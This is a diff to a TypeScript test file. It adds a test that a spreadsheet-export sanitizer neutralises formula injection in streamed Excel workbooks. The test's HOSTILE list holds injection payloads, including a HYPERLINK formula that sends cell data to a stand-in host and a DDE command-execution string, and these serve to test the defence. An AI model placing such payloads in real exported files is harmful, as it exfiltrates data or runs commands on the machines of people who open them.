@@ -4,7 +4,7 @@ import ExcelJS from 'exceljs';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { makeWorld, type World } from '../../test/helpers/factories.js';
 import { setupApp, type TestApp } from '../../test/helpers/test-app.js';
-import { workbookBuffer, writeTable } from './documents/index.js';
+import { streamedWorkbookBuffer, streamTable, workbookBuffer, writeOfficialHeader, writeTable } from './documents/index.js';
 import { formulaSafe } from './formula-safe.js';
 
 const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"ok")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
@@ -33,6 +33,21 @@ describe('formulaSafe', () => {
     // XML reads a carriage return back as a line feed; the apostrophe in front is what matters.
     for (const h of HOSTILE) expect(cells.map((c) => c.value)).toContain(`'${h}`.replace('\r', '\n'));
     expect(cells.filter((c) => c.value === -5)).toHaveLength(HOSTILE.length);
+  });
+
+  it('makes every text cell safe in a streamed workbook too: the header, rows committed on the way and the last open rows', async () => {
+    const data = await streamedWorkbookBuffer(async (book) => {
+      const sheet = book.sheet('x', [20, 8]);
+      const meta = { header: 'state' as const, issuer: '=1+1', number: null, place: '@Quang Bình', date: '2021-10-25', type: 'Báo cáo', summary: '-Tóm tắt' };
+      const r = writeOfficialHeader(sheet.ws, meta, 2);
+      await streamTable(sheet, r, [{ header: 'Tên', width: 20 }, { header: 'Số', width: 8 }], (function* () { for (const h of HOSTILE) yield [h, -5]; })());
+    });
+    const cells = await textCells(data);
+    expect(cells.some((c) => c.formula)).toBe(false);
+    for (const h of HOSTILE) expect(cells.map((c) => c.value)).toContain(`'${h}`.replace('\r', '\n'));
+    expect(cells.map((c) => c.value)).toEqual(expect.arrayContaining(["'=1+1", "'-Tóm tắt"]));
+    expect(cells.filter((c) => c.value === -5)).toHaveLength(HOSTILE.length);
+    expect(cells.map((c) => c.value).filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
   });
 });
 
